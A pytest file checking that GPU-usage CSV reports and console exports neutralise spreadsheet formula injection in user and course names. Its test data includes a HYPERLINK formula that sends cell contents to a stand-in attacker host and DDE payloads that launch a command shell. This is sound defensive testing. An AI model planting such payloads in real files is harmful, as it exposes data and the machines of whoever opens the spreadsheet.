"""Somebody has a name that a spreadsheet runs (``=HYPERLINK(…)``), and whoever opens the report of GPU hours runs it."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pytest

from gpukernel.client.admin import AdminClient
from gpukernel.common.model import Holder, SliceRequest
from hub_spawner.console.course_service import CourseUsage
from hub_spawner.console.history import as_csv
from tests.conftest import Pool

NAMES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"report")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "＝1+1",
    "anna;=1+1",
    "anna,=1+1",
]
SIGNS = "=+-@＝＋－＠|\t\r\n"


def cells(text: str) -> list[str]:
    """Return every cell as a spreadsheet finds it, whichever sign its language has between columns."""
    return [
        cell
        for delimiter in ",;\t"
        for row in csv.reader(io.StringIO(text), delimiter=delimiter)
        for cell in row
    ]


def runs(text: str) -> list[str]:
    """Return the cells that a spreadsheet would run."""
    found = [cell for cell in cells(text) if cell.strip(" '\"")[:1] and cell.lstrip(' "')[:1] in SIGNS]
    return [cell for cell in found if not cell.lstrip("-").replace(".", "", 1).isdecimal()]


@pytest.mark.parametrize("by", ["person", "course"])
def test_no_name_is_a_formula_in_the_command_s_report(own_pool: Pool, by: str) -> None:
    async def work() -> None:
        async with AdminClient(own_pool.address) as admin:
            await admin.import_courses(json.dumps({"courses": {"+1": {"students": ["*"]}}}))
            for name in NAMES:
                course = "+1" if by == "course" else ""
                holder = Holder(name, course=course)
                lease = await admin.acquire_now(name, SliceRequest(share=0.01), holder)
                await admin.release(lease.id)

    asyncio.run(work())
    shown = own_pool.gpukernel("report", "--since", "1h", "--by", by, "--csv")
    assert shown.returncode == 0, shown.stderr
    assert runs(shown.stdout) == []
    head, *rows = list(csv.reader(io.StringIO(shown.stdout)))
    assert head[:2] == [by, "leases"]
    if by == "person":
        assert sorted(row[0].replace("'", "") for row in rows) == sorted(
            name.replace("'", "") for name in NAMES
        )
    assert {row[1] for row in rows} <= {"1", str(len(NAMES))}  # figures stay figures


def test_no_name_is_a_formula_in_the_console_s_file() -> None:
    use = CourseUsage(("2026-11-02",), (1.0,), dict.fromkeys(NAMES, 1.0), dict.fromkeys(NAMES, (1.5,)))
    text = as_csv("=ml101", use)
    assert runs(text) == []
    assert {row[3] for row in list(csv.reader(io.StringIO(text)))[1:]} == {"1.5"}
